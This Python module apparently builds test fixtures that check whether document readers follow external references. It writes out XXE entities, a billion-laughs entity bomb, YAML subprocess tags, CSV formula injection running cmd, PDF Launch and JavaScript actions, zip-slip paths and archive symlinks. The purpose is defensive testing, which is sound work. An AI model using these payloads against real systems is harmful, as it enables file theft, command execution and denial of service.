# ruff: noqa: E501 - what is planted is read best in one piece
"""Files that ask their reader to fetch something else: another file, an address, a program.

Whatever the format can name is named: a canary on the disk and an address that somebody listens to.
A reader that follows one of them gives itself away: the canary's word is in what it read, the
file was opened, or the address was asked.
"""

import io
import tarfile
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

import docx
import openpyxl
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

CANARY = "CANARY-7Q4X-OUTSIDE"
"""Stands in the file outside, and nowhere else."""
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_COMMENT = "<!--" + "x" * 6_000 + "-->"
"""Longer than what a hasty look at a part's beginning covers."""


def planted_files(outside: Path, address: str) -> dict[str, bytes]:
    """File names and bytes; ``outside`` is the canary's file, ``address`` listens on HTTP."""
    place = outside.resolve().as_uri()
    made = (
        *_markup(place, str(outside), address),
        *_word(place, address),
        *_sheets(place, str(outside), address),
        *_pdfs(place, str(outside), address),
        *_archives(outside),
    )
    return dict(made)


def _markup(place: str, path: str, address: str) -> Iterator[tuple[str, bytes]]:
    system = f'<!DOCTYPE a [<!ENTITY b SYSTEM "{place}"><!ENTITY % c SYSTEM "{address}"> %c;]>'
    yield "entity.html", f"{system}<html><body><p>Entity: &b;</p></body></html>".encode()
    yield (
        "entity.xhtml",
        f'<?xml version="1.0"?>{system}<html xmlns="http://www.w3.org/1999/xhtml">'
        f"<body><p>Entity: &b;</p></body></html>".encode(),
    )
    yield (
        "frames.html",
        f"""<!doctype html><html><head><base href="{place}"><link rel="stylesheet" href="{address}/a.css">
<meta http-equiv="refresh" content="0;url={address}"><script src="{address}/a.js"></script>
<style>@import url({address}/b.css); @font-face {{ font-family: a; src: url({place}); }}</style></head>
<body background="{address}/b.png"><p>Frames and pictures.</p><iframe src="{place}"></iframe>
<object data="{place}">an object</object><embed src="{place}"><img src="{address}/c.png" alt="a
picture"><video src="{address}/d.mp4" poster="{place}"></video><svg><image href="{place}"/>
<use xlink:href="{place}#a"/></svg><!--#include virtual="{path}" --></body></html>""".encode(),
    )
    yield (
        "include.rst",
        f"""Title
=====

Before.

.. include:: {path}

.. literalinclude:: {path}

.. raw:: html
   :file: {path}

.. raw:: html
   :url: {address}

.. csv-table:: A table
   :file: {path}

.. csv-table:: Another table
   :url: {address}

.. figure:: {place}

.. image:: {address}/picture.png

.. code-block:: text
   :file: {path}

.. math::
   \\input{{{path}}}

.. |word| replace:: {path}
.. include:: <{path}>

After.
""".encode(),
    )
    yield (
        "include.md",
        f"""# Title

--8<-- "{path}"

!include {path}

{{% include "{path}" %}}

![[{path}]]

![a picture]({place}) ![another]({address}/picture.png)

<iframe src="{place}"></iframe>

[a link]: {place}

```{{literalinclude}} {path}
```
""".encode(),
    )
    yield (
        "tags.md",
        f"---\ntitle: !!python/object/apply:subprocess.check_output [[cat, {path}]]\n---\n"
        f"# Title\n\nText.\n".encode(),
    )
    yield "include.md.yaml", f"title: !include {path}\n".encode()
    yield (
        "formulas.csv",
        f'Question,Answer\n=cmd|\'/c cat {path}\'!A1,"=WEBSERVICE(""{address}"")"\n'
        f"+SUM(1),@{path}\n".encode(),
    )


def _word(place: str, address: str) -> Iterator[tuple[str, bytes]]:
    document = docx.Document()
    document.add_heading("Title", level=1)
    document.add_paragraph("Text of the document.")
    plain = _saved(document)
    body = _part(plain, "word/document.xml").decode()
    external = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_RELATIONS}">'
        + "".join(
            f'<Relationship Id="rx{number}" Type="{_OFFICE}/{kind}" Target="{target}" '
            'TargetMode="External"/>'
            for number, (kind, target) in enumerate(
                (kind, target)
                for kind in ("attachedTemplate", "subDocument", "image", "aFChunk", "frame")
                for target in (place, address)
            )
        )
        + "</Relationships>"
    ).encode()
    yield "template.docx", _with(plain, {"word/_rels/settings.xml.rels": external})
    chunk = (
        '<w:altChunk xmlns:r="'
        + _OFFICE
        + '" r:id="rx6"/><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        f'INCLUDETEXT "{place}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        "<w:r><w:t>field</w:t></w:r>"
        f'<w:r><w:instrText>INCLUDEPICTURE "{address}" \\d</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr'
    )
    relations = _part(plain, "word/_rels/document.xml.rels").decode()
    added = external.decode().split(f'xmlns="{_RELATIONS}">')[1].split("</Relationships>")[0]
    yield (
        "relations.docx",
        _with(
            plain,
            {
                "word/document.xml": body.replace("<w:sectPr", chunk, 1).encode(),
                "word/_rels/document.xml.rels": relations.replace(
                    "</Relationships>", added + "</Relationships>"
                ).encode(),
            },
        ),
    )
    inside = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="rId1" '
        f'Type="{_OFFICE}/officeDocument" Target="{place}"/></Relationships>'
    )
    yield "start-elsewhere.docx", _with(plain, {"_rels/.rels": inside.encode()})
    declared = f'<!DOCTYPE w:document [<!ENTITY b SYSTEM "{place}">]>'
    named = body.replace("Text of the document.", "&b;")
    head, _, rest = named.partition("?>")
    yield (
        "entity.docx",
        _with(plain, {"word/document.xml": f"{head}?>{declared}{rest}".encode()}),
    )
    yield (
        "late-entity.docx",
        _with(plain, {"word/document.xml": f"{head}?>{_COMMENT}{declared}{rest}".encode()}),
    )
    sixteen = f'<?xml version="1.0" encoding="UTF-16"?>{declared}{rest}'.encode("utf-16")
    yield "wide-entity.docx", _with(plain, {"word/document.xml": sixteen})
    bomb = "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10 if n else "ha" * 50}">' for n in range(9))
    laughs = f"{head}?>{_COMMENT}<!DOCTYPE d [{bomb}]>{rest.replace('&b;', '&b8;')}"
    yield "late-laughs.docx", _with(plain, {"word/document.xml": laughs.encode()})
    # a part whose name does not say that it is XML
    types = (
        _part(plain, "[Content_Types].xml").decode().replace("/word/document.xml", "/word/d.txt")
    )
    moved = _part(plain, "_rels/.rels").decode().replace("word/document.xml", "word/d.txt")
    renamed = _with(
        plain,
        {
            "word/d.txt": f"{head}?>{declared}{rest}".encode(),
            "word/_rels/d.txt.rels": relations.encode(),
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": moved.encode(),
        },
    )
    yield "renamed-entity.docx", renamed


def _sheets(place: str, path: str, address: str) -> Iterator[tuple[str, bytes]]:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append(["Question", "Answer"])
    sheet.append(["External", f"='{path}'!A1"])
    sheet.append(["Web", f'=WEBSERVICE("{address}")'])
    sheet.append(["Link", f'=HYPERLINK("{place}", "a link")'])
    sheet.append(["Picture", f'=IMAGE("{address}/a.png")'])
    stream = io.BytesIO()
    book.save(stream)
    plain = stream.getvalue()
    yield "formulas.xlsx", plain
    link = (
        f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<externalBook xmlns:r="{_OFFICE}" r:id="rId1"><sheetNames><sheetName val="A"/>'
        "</sheetNames></externalBook></externalLink>"
    )
    external = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="rId1" '
        f'Type="{_OFFICE}/externalLinkPath" Target="{place}" TargetMode="External"/></Relationships>'
    )
    workbook = _part(plain, "xl/workbook.xml").decode()
    relations = _part(plain, "xl/_rels/workbook.xml.rels").decode()
    yield (
        "links.xlsx",
        _with(
            plain,
            {
                "xl/externalLinks/externalLink1.xml": link.encode(),
                "xl/externalLinks/_rels/externalLink1.xml.rels": external.encode(),
                "xl/workbook.xml": workbook.replace(
                    "</workbook>",
                    f'<externalReferences><externalReference xmlns:r="{_OFFICE}" r:id="rIdX"/>'
                    "</externalReferences></workbook>",
                ).encode(),
                "xl/_rels/workbook.xml.rels": relations.replace(
                    "</Relationships>",
                    f'<Relationship Id="rIdX" Type="{_OFFICE}/externalLink" '
                    'Target="externalLinks/externalLink1.xml"/></Relationships>',
                ).encode(),
            },
        ),
    )
    first = _part(plain, "xl/worksheets/sheet1.xml").decode()
    head, mark, rest = first.partition("?>")
    head, rest = (head + mark, rest) if mark else ("", first)
    declared = f'<!DOCTYPE worksheet [<!ENTITY b SYSTEM "{place}">]>'
    for name, before in (("entity.xlsx", ""), ("late-entity.xlsx", _COMMENT)):
        entity = f"{head}{before}{declared}{rest.replace('External', '&b;', 1)}"
        yield name, _with(plain, {"xl/worksheets/sheet1.xml": entity.encode()})
    yield (
        "outside.xlsx",
        _with(
            plain,
            {
                "xl/_rels/workbook.xml.rels": relations.replace(
                    "worksheets/sheet1.xml", "../../../../../../" + path.lstrip("/")
                ).encode()
            },
        ),
    )


def _pdfs(place: str, path: str, address: str) -> Iterator[tuple[str, bytes]]:
    actions = {
        "goto-remote": f"<< /S /GoToR /F ({path}) /D [0 /Fit] /NewWindow false >>",
        "goto-embedded": f"<< /S /GoToE /F ({path}) /D [0 /Fit] /T << /R /C /N (a) >> >>",
        "launch": f"<< /S /Launch /F ({path}) /Win << /F (cmd.exe) /P (/c type {path}) >> >>",
        "uri": f"<< /S /URI /URI ({address}/open) >>",
        "submit": f"<< /S /SubmitForm /F << /FS /URL /F ({address}/form) >> /Flags 4 >>",
        "import": f"<< /S /ImportData /F ({path}) >>",
        "script": f"<< /S /JavaScript /JS (app.launchURL\\('{address}'\\); this.getURL\\('{place}'\\);) >>",
        "thread": f"<< /S /Thread /F ({path}) /D 0 >>",
        "movie": f"<< /S /Rendition /R << /S /MR /C << /S /MCD /D ({path}) >> >> >>",
    }
    for name, action in actions.items():
        yield f"{name}.pdf", _pdf_with(catalog=f"/OpenAction {action}")
    outside = f"<< /F ({path}) /FFilter /FlateDecode /Length 0 >>"
    yield "stream-outside.pdf", _pdf_with(stream=outside)
    yield (
        "stream-url.pdf",
        _pdf_with(stream=f"<< /F << /FS /URL /F ({address}/stream) >> /Length 0 >>"),
    )
    yield (
        "font-outside.pdf",
        _pdf_with(
            font=f"<< /Type /Font /Subtype /TrueType /BaseFont /Canary /FirstChar 32 /LastChar 34 "
            f"/Widths [500 500 500] /Encoding /WinAnsiEncoding /FontDescriptor << /Type "
            f"/FontDescriptor /FontName /Canary /Flags 32 /FontFile2 << /F ({path}) /Length 0 >> "
            f">> >>"
        ),
    )
    yield (
        "reference.pdf",
        _pdf_with(
            page=f"/AF [<< /Type /Filespec /F ({path}) /UF ({path}) /AFRelationship /Data >>] "
            f"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS ({path}) >>]"
        ),
    )
    form = f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE a [<!ENTITY b SYSTEM "{place}">]>&b;</xdp:xdp>'
    yield (
        "xfa.pdf",
        _pdf_with(catalog=f"/AcroForm << /Fields [] /XFA ({_escaped(form)}) >>"),
    )
    meta = f'<?xpacket?><!DOCTYPE x [<!ENTITY b SYSTEM "{place}">]><x:xmpmeta>&b;</x:xmpmeta>'
    yield "metadata.pdf", _pdf_with(info=f"/Title ({_escaped(meta)})")


def _archives(outside: Path) -> Iterator[tuple[str, bytes]]:
    """Containers whose parts have names that lead elsewhere, or that are links."""
    document = docx.Document()
    document.add_paragraph("Text of the document.")
    plain = _saved(document)
    yield (
        "slip.docx",
        _with(
            plain,
            {
                "../../../../../../tmp/tradewind-slipped": b"slipped",
                "/tmp/tradewind-slipped": b"slipped",
                "..\\..\\tradewind-slipped": b"slipped",
                "word/media/../../../tradewind-slipped": b"slipped",
            },
        ),
    )
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for part in zipfile.ZipFile(io.BytesIO(plain)).infolist():
            if part.filename != "word/document.xml":
                archive.writestr(part, zipfile.ZipFile(io.BytesIO(plain)).read(part))
        link = zipfile.ZipInfo("word/document.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(outside))
    yield "link-inside.docx", stream.getvalue()
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive_of_links:
        entry = tarfile.TarInfo("a.md")
        entry.type, entry.linkname = tarfile.SYMTYPE, str(outside)
        archive_of_links.addfile(entry)
    yield "links.tar", packed.getvalue()
    yield "links.md", packed.getvalue()


def _saved(document: "docx.document.Document") -> bytes:
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def _part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def _with(data: bytes, parts: Mapping[str, bytes]) -> bytes:
    """The same container, these parts in the place of those of the same names."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as found, zipfile.ZipFile(stream, "w") as made:
        for part in found.infolist():
            if part.filename not in parts:
                made.writestr(part, found.read(part))
        for name, content in parts.items():
            made.writestr(name, content)
    return stream.getvalue()


def _pdf_with(
    *, catalog: str = "", page: str = "", font: str = "", stream: str = "", info: str = ""
) -> bytes:
    """A page that says one sentence, with this beside what it needs."""
    words = b"BT /F1 12 Tf 72 720 Td (The pump needs oil every two thousand hours.) Tj ET"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {A4[0]:.0f} {A4[1]:.0f}] /Contents "
            f"{'[4 0 R 7 0 R]' if stream else '4 0 R'} "
            f"/Resources << /Font << /F1 5 0 R >> >> {page} >>"
        ).encode(),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(words), words),
        (font or "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>").encode(),
        f"<< {info} >>".encode(),
    ]
    if stream:
        objects.append(f"{stream}\nstream\n\nendstream".encode())
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for place in places:
        out += b"%010d 00000 n \n" % place
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        start,
    )
    return bytes(out)


def _escaped(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def honest_pdf() -> bytes:
    """A page that asks for nothing."""
    stream = io.BytesIO()
    canvas = Canvas(stream, invariant=1)
    canvas.drawString(72, 720, "The filter is changed every six months.")
    canvas.save()
    return stream.getvalue()
